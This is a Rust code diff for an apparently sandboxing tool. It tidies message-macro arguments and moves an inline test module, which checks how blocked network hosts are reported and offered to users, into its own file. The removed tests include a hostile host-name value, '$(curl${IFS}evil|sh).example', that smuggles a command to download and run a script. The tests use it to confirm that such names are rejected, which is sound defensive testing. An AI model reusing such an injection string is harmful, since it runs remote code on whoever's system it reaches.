@@ -201,7 +201,7 @@ impl Inner {
         let is_held_here =
             matches!(draft.endpoint, Endpoint::Command { .. }) && !is_container(&draft.endpoint);
         if is_held_here && let Some(why) = self.fence_unavailable().await {
-            return none(Some(say!("fence-not-here", why = why)));
+            return none(Some(say!("fence-not-here", why)));
         }
         let search = self.search_path().await;
         let data = self.data_dir.clone();
@@ -249,7 +249,7 @@ impl Inner {
             return None;
         };
         let why = match self.fence_unavailable().await {
-            Some(why) => say!("fence-not-here", why = why),
+            Some(why) => say!("fence-not-here", why),
             None => self.check_grants(fence).err()?.sentence,
         };
         Some(Warning::new("fence.refused", why))
@@ -295,7 +295,7 @@ impl Inner {
         let made = home.clone();
         blocking(move || make_private(&made)).await?.map_err(|error| {
             let why = portcullis_core::causes::io(&error);
-            Error::new(Code::LaunchFailed, say!("fence-home", server = label, why = why))
+            Error::new(Code::LaunchFailed, say!("fence-home", server = label, why))
         })?;
         let (denied, denials) = mpsc::channel(limits::FENCE_DENIALS);
         let traffic = Traffic::default();
@@ -450,120 +450,4 @@ fn denial_of(what: String, at: u64) -> FenceDenial {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    // Proves S-68.
-    #[test]
-    fn a_folder_around_keys_is_not_offered() {
-        let home = std::env::home_dir().expect("a home");
-        let data = tempfile::tempdir().expect("a folder");
-        let offered = |path: PathBuf| NamedPath::look(path, data.path()).denial(7).path;
-        for around in [".config", ".local/share"] {
-            assert_eq!(offered(home.join(around)), None, "{around}");
-        }
-        let own = home.join(".config/a-server-of-this-name");
-        assert_eq!(offered(own.clone()), own.to_str().map(str::to_owned));
-    }
-
-    #[cfg(not(target_os = "linux"))]
-    #[tokio::test]
-    async fn a_system_without_fences_is_not_called_an_incomplete_installation() {
-        let house = crate::host::launches::tests::House::new().await;
-        let why = house.host.0.fence_unavailable().await.expect("no fence");
-        assert!(!why.contains(crate::places::FENCE_PROGRAM), "{why}");
-        assert!(why.contains("operating system"), "{why}");
-        house.host.close().await;
-    }
-
-    // Proves S-68.
-    #[test]
-    fn what_is_no_name_of_a_host_is_told_and_not_offered() {
-        let described = |name: &str| {
-            let name = name.to_owned();
-            described(&Denial::Host { name, port: None }, 7)
-        };
-        assert!(described("api.example.com").host.is_some());
-        for odd in [
-            "$(curl${IFS}evil|sh).example",
-            "a;b.example",
-            "-a.example",
-            "10.0.0.1",
-        ] {
-            let denial = described(odd);
-            assert_eq!((denial.host, denial.what.text.as_str()), (None, odd));
-        }
-    }
-
-    // Proves S-62, S-68.
-    #[test]
-    fn a_host_in_the_local_network_is_offered_as_such_and_what_no_grant_opens_is_not() {
-        let inward = |address: &str, port| {
-            described(
-                &Denial::Inward {
-                    name: "nas.local".to_owned(),
-                    address: address.parse().expect("an address"),
-                    port,
-                },
-                7,
-            )
-        };
-        let denial = inward("192.168.1.20", Some(5000));
-        assert_eq!(denial.what.text, "nas.local:5000 (192.168.1.20)");
-        let offered = denial.host.expect("an offer");
-        assert!(offered.local_network);
-        assert_eq!(offered.address(), "nas.local:5000");
-        let denial = inward("169.254.169.254", None);
-        assert_eq!(
-            (denial.host, denial.what.text.as_str()),
-            (None, "nas.local (169.254.169.254)")
-        );
-        let address = |text: &str, private| {
-            let address = text.parse().expect("an address");
-            let port = 5432;
-            described(
-                &Denial::Address {
-                    address,
-                    port,
-                    private,
-                },
-                7,
-            )
-            .host
-        };
-        let offered = address("192.168.1.20", true).expect("an offer");
-        assert!(offered.local_network);
-        assert_eq!(offered.address(), "192.168.1.20:5432");
-        assert_eq!(address("93.184.216.34", false), None);
-    }
-
-    // Proves S-68.
-    #[test]
-    fn what_is_kept_out_is_told_once_newest_first_and_within_bounds() {
-        let mut denials = FenceDenials::default();
-        let named = |name: &str| {
-            let host = Denial::Host {
-                name: name.to_owned(),
-                port: Some(443),
-            };
-            described(&host, 7)
-        };
-        assert!(denials.add(named("a.example")));
-        assert!(denials.add(named("b.example")));
-        assert!(!denials.add(named("a.example")), "told already");
-        let shown: Vec<_> = denials
-            .list
-            .iter()
-            .map(|denial| (denial.what.text.as_str(), denial.count))
-            .collect();
-        assert_eq!(shown, [("a.example:443", 2), ("b.example:443", 1)]);
-        let tool = portcullis_core::text::escape_line("look");
-        denials.were_during(&[named("b.example").what], &tool);
-        let during: Vec<_> = denials.list.iter().map(|denial| denial.tool.is_some()).collect();
-        assert_eq!(during, [false, true]);
-        for number in 0..2 * limits::FENCE_DENIALS {
-            denials.add(named(&format!("{number}.example")));
-        }
-        assert_eq!(denials.list.len(), limits::FENCE_DENIALS);
-    }
-}
+mod tests;
